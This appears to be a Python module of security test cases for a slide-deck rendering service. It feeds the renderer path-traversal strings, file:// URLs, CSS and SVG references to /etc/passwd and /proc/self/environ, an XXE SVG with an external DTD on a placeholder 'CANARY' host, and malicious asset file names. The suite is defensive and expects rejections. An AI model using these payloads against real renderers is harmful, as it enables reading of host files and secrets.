"""Files of the host, by every road; names of assets that lead out."""

from __future__ import annotations

from tests.hostile.case import Case
from tests.hostile.cases.make import FORM, deck, form, in_formats, with_assets

_ROADS = (
    "file:///SECRETFILE", "file:SECRETFILE", "FILE:///SECRETFILE", "file://localhost/SECRETFILE", "SECRETFILE", "/etc/passwd", "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd", "..\\..\\..\\etc\\passwd", "....//....//etc/passwd", ".//../..//etc/passwd",
    "a/../../../etc/passwd", "/proc/self/environ", "file:///proc/self/environ", "//etc/passwd", "\\\\127.0.0.1\\c$\\x.png", "chrome://version", "about:blank",
    "view-source:file:///etc/passwd", "data:,x/../../etc/passwd", "a.png%00.svg", "%00", "C:\\Windows\\win.ini", "filesystem:file:///etc", "~/x", "$HOME/x",
)  # fmt: skip
_EVERYWHERE = "".join(
    f'![](<{road}>)\n![bg](<{road}>)\n<img src="{road}">\n<video poster="{road}" src="{road}"></video>\n'
    for road in _ROADS
)
_STYLES = (
    "<style>\n"
    + "".join(f"h{n % 6 + 1}{{background:url('{road}')}}\n" for n, road in enumerate(_ROADS))
    + "</style>\n\n# A\n"
)
_SVG = (
    b"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='9' height='9'>%s</svg>"
)
_XXE = (
    b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/hostname'><!ENTITY % p SYSTEM 'http://CANARY/x.dtd'> %p;]>"
    + _SVG % b"<text>&x;</text>"
)
_NAMES = (
    "../x.png",
    "/etc/passwd",
    "a/../../x.png",
    "a\\b.png",
    "..",
    ".",
    "",
    "a\tb.png",
    "a\x7fb.png",
    "./.",
    "a/\x01.png",
)


def _named(name: str) -> Case:
    body = form([("deck", "talk.md", b"# A\n"), ("assets", name, b"x")])
    return Case(f"an asset called {name!r}", body, content_type=FORM, statuses=frozenset({400, 422}))


FILES = (
    *in_formats(deck("files of the host in pictures, backgrounds and posters", _EVERYWHERE), "pdf", "html", "pptx", "png"),
    *in_formats(deck("files of the host in styles", _STYLES), "pdf", "html", "pptx"),
    deck("files of the host in a header", "---\nheader: '![](file:///SECRETFILE) ![](../../etc/passwd)'\nbackgroundImage: url(file:///SECRETFILE)\n---\n# A", "html,pdf,pptx"),
    *(_named(name) for name in _NAMES),
    Case("an asset with the name of a disk, which browsers send", form([("deck", "a.md", b"# A"), ("assets", "C:\\x.png", b"x")]), content_type=FORM),
    Case("two assets of one name", form([("deck", "a.md", b"# A"), ("assets", "a.png", b"1"), ("assets", "./a.png", b"2")]), content_type=FORM, statuses=frozenset({422})),
    with_assets("an SVG with entities of files", "![](a.svg) ![bg](a.svg)", {"a.svg": _XXE}, "pdf,pptx,html"),
    with_assets(
        "an SVG that shows files",
        "![](a.svg)",
        {"a.svg": _SVG % b"<image xlink:href='file:///SECRETFILE' width='9' height='9'/><use href='file:///etc/passwd#x'/><style>@import 'file:///etc/passwd';</style>"},
        "pdf,pptx,html",
    ),
    with_assets("a deck called like a device", "# A", {"CON": b"x", "nul.png": b"x", "-rf.png": b"x", ".htaccess": b"x"}, "pdf"),
)  # fmt: skip
